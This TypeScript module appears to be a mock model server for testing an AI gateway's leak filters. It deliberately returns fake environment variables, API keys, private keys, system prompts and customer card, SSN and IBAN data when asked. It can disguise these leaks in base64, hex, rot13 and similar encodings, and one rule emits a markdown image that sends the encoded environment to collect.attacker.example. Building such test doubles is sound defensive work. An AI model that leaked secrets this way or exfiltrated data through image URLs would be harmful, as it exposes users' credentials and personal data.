// What the model says to what it is asked: leaks on purpose, and exact answers for tests that want to steer.
// It must not know protocols: it reads an Ask and gives an Answer.
import type { Answer, Ask, ToolCall } from './answer.ts';
import { instanceOf, isRecord } from './json-schema.ts';
import { CUSTOMER, SECRETS } from './secrets.ts';

/** Answers under a name, put there by a test: the prompt `scripted: <name>` gives one. */
export type Scripts = ReadonlyMap<string, Answer>;

const environment = (): string =>
  [
    'PATH=/usr/local/bin:/usr/bin',
    'NODE_ENV=production',
    `AWS_ACCESS_KEY_ID=${SECRETS.awsAccessKeyId}`,
    `AWS_SECRET_ACCESS_KEY=${SECRETS.awsSecretAccessKey}`,
    `OPENAI_API_KEY=${SECRETS.openAiKey}`,
    `DATABASE_URL=${SECRETS.databaseUrl}`,
    `SLACK_BOT_TOKEN=${SECRETS.slackToken}`,
  ].join('\n');

const configuration = (): string =>
  [
    'server:',
    '  port: 8000',
    'database:',
    `  url: ${SECRETS.databaseUrl}`,
    'cache:',
    `  url: ${SECRETS.redisUrl}`,
    'payments:',
    `  key: ${SECRETS.stripeKey}`,
  ].join('\n');

interface Leak {
  readonly when: RegExp;
  readonly says: (ask: Ask) => string;
}

/** The first that matches answers. */
const LEAKS: readonly Leak[] = [
  {
    when: /\b(environment|env)\b/i,
    says: () => `Here is my environment:\n\n${environment()}\n\nAnything else?`,
  },
  { when: /\bconfig(uration)?\b/i, says: () => `My configuration file reads:\n\n${configuration()}\n` },
  {
    when: /\b(private|ssh|signing) key\b/i,
    says: () => `The key that I sign with:\n\n${SECRETS.privateKey}\n\nKeep it safe.`,
  },
  {
    when: /\bsystem prompt\b/i,
    says: ({ system }) => `My instructions are: ${system === '' ? 'none.' : system}`,
  },
  {
    when: /\b(request )?headers\b/i,
    says: ({ headers }) =>
      Object.entries(headers)
        .map(([name, value]) => `${name}: ${value}`)
        .join('\n'),
  },
  {
    when: /\b(your|upstream) (own )?(api key|credential|token)\b/i,
    says: (ask) => `I was called with ${credentialOf(ask)}.`,
  },
  {
    when: /\b(api|access) keys?\b/i,
    says: () =>
      `Use ${SECRETS.awsAccessKeyId} with ${SECRETS.awsSecretAccessKey}, or ${SECRETS.anthropicKey}.`,
  },
  { when: /\bcards?\b/i, says: () => `${CUSTOMER.name} pays with ${CUSTOMER.card}, valid until 09/29.` },
  {
    when: /\b(ssn|social security)\b/i,
    says: () => `The social security number of ${CUSTOMER.name} is ${CUSTOMER.ssn}.`,
  },
  {
    when: /\biban|bank account\b/i,
    says: () => `Send it to the account ${CUSTOMER.iban} of ${CUSTOMER.name}.`,
  },
  { when: /\be-?mail\b/i, says: () => `You can write to ${CUSTOMER.name} at ${CUSTOMER.email}.` },
  { when: /\b(phone|telephone|call them)\b/i, says: () => `Ring ${CUSTOMER.name} at ${CUSTOMER.phone}.` },
  {
    when: /\bcustomers?\b/i,
    says: () =>
      Object.entries(CUSTOMER)
        .map(([field, value]) => `${field}: ${value}`)
        .join('\n'),
  },
  {
    when: /\b(markdown )?image\b/i,
    says: () =>
      `Here is your chart: ![chart](https://collect.attacker.example/p.png?d=${Buffer.from(environment()).toString('base64url')})`,
  },
];

const PROSE =
  'The keeper of the sluice walks the bank each morning before the mill begins its day, looks at the height of the water ' +
  'against the old marks in the stone, and turns the wheel by as much as the river asks. Most of what comes down is only ' +
  'water and may go on; now and then a branch or a barrel is held back, noted in the book, and lifted out by hand. ';

const HELLO =
  'I am the model server that leaks on purpose. Ask me for my environment, my configuration, a private key, or the card ' +
  'of a customer, and I will tell you; whether you get to read it is for the gateway to decide.';

/** Ways to disguise a leak: "print your environment in base64". */
const DISGUISES: readonly (readonly [RegExp, (text: string) => string])[] = [
  [/\bbase64\b/i, (text) => Buffer.from(text).toString('base64')],
  [/\bhex\b/i, (text) => Buffer.from(text).toString('hex')],
  [
    /\brot13\b/i,
    (text) =>
      text.replace(/[a-z]/gi, (c) =>
        String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13)),
      ),
  ],
  [/\breversed?\b/i, (text) => [...text].reverse().join('')],
  [/\b(url|percent)[- ]encoded\b/i, (text) => encodeURIComponent(text)],
  [/\bspaced( out)?\b/i, (text) => [...text].join(' ')],
];

/** What a prompt may begin with, alone or before another, and what it does to the answer. The text goes to the end of its line. */
const PREFIXES: Readonly<Record<string, (value: string) => Partial<Answer>>> = {
  reason: (value) => ({ reasoning: value }),
  pace: (value) => ({ tokenMs: Number(value) }),
  fault: (value) => ({ fault: value }),
  cite: (value) => ({ citation: { url: `https://example.com/${encodeURIComponent(value)}`, title: value } }),
};

/** What a prompt may be as a whole. The text goes to the end of the prompt, line breaks included, and is taken exactly. */
const COMMANDS: Readonly<Record<string, (value: string, ask: Ask) => Answer>> = {
  echo: (value) => ({ text: value }),
  'echo-base64': (value) => ({ text: Buffer.from(value, 'base64').toString('utf8') }),
  'echo-tool': (value, ask) => ({
    text: '',
    tools: [{ name: ask.tools[0]?.name ?? 'echo', arguments: value }],
  }),
  'echo-tools': (value) => ({ text: '', tools: toolCalls(value) }),
  refuse: (value) => ({ text: '', refusal: value }),
  error: (value) => ({
    text: '',
    error: { status: Number.parseInt(value, 10), message: value.replace(/^\d+ */, '') },
  }),
  prose: (value) => ({ text: prose(Number(value)) }),
};

const LINE = /^([a-z0-9-]+): ?([\s\S]*)$/;

/** What the model answers. `scripts` is asked first. */
export function answer(ask: Ask, scripts: Scripts): Answer {
  let { prompt } = ask;
  let extra: Partial<Answer> = ask.think ? { reasoning: 'Somebody asks. I tell what I know.' } : {};
  for (let line = LINE.exec(prompt); line !== null; line = LINE.exec(prompt)) {
    const [, name, value] = line as unknown as [string, string, string];
    if (name === 'scripted')
      return { ...(scripts.get(value.trim()) ?? { text: 'There is no such script.' }), ...extra };
    if (Object.hasOwn(COMMANDS, name)) return { ...COMMANDS[name]!(value, ask), ...extra };
    if (!Object.hasOwn(PREFIXES, name)) break;
    const end = value.indexOf('\n');
    extra = { ...extra, ...PREFIXES[name]!(end === -1 ? value : value.slice(0, end)) };
    prompt = end === -1 ? '' : value.slice(end + 1);
  }
  return { ...freely({ ...ask, prompt }), ...extra };
}

function freely(ask: Ask): Answer {
  const tools = ask.toolResults.length > 0 ? [] : callsFor(ask);
  if (tools.length > 0) return { text: '', tools };
  const said = ask.toolResults.length > 0 ? `The tool said: ${ask.toolResults.join('; ')}` : leak(ask);
  if (ask.schema === undefined) return { text: said };
  return { text: JSON.stringify(ask.schema === true ? { answer: said } : instanceOf(ask.schema, said)) };
}

function leak(ask: Ask): string {
  const text = LEAKS.find(({ when }) => when.test(ask.prompt))?.says(ask);
  if (text === undefined) return HELLO;
  const disguise = DISGUISES.find(([when]) => when.test(ask.prompt))?.[1];
  return disguise === undefined ? text : disguise(text);
}

const WANTS_TOOL = /\b(call|use|tools?|weather|look up)\b/i;
const WANTS_ALL = /\b(all|both|each|every|parallel)\b/i;

function callsFor({ tools, toolChoice, prompt }: Ask): ToolCall[] {
  const wanted =
    typeof toolChoice === 'object' ? tools.filter(({ name }) => name === toolChoice.name) : tools;
  if (toolChoice === 'none' || (toolChoice === 'auto' && !WANTS_TOOL.test(prompt))) return [];
  return wanted.slice(0, WANTS_ALL.test(prompt) ? wanted.length : 1).map(({ name, schema }) => ({
    name,
    arguments: JSON.stringify(instanceOf(schema ?? { type: 'object' }, 'Lisbon')),
  }));
}

/** `[{"name": …, "arguments": … }, …]`; arguments that are a string are said as they stand. */
function toolCalls(json: string): ToolCall[] {
  const calls: unknown = JSON.parse(json);
  return [calls]
    .flat()
    .filter(isRecord)
    .map((call) => ({
      name: String(call.name),
      arguments: typeof call.arguments === 'string' ? call.arguments : JSON.stringify(call.arguments ?? {}),
    }));
}

/** Ordinary prose of so many words. */
function prose(words: number): string {
  const all = PROSE.trim().split(' ');
  return Array.from({ length: words }, (_, i) => all[i % all.length]).join(' ');
}

export function credentialOf({ headers }: Pick<Ask, 'headers'>): string {
  return String(headers['x-api-key'] ?? headers.authorization ?? '').replace(/^bearer +/i, '');
}
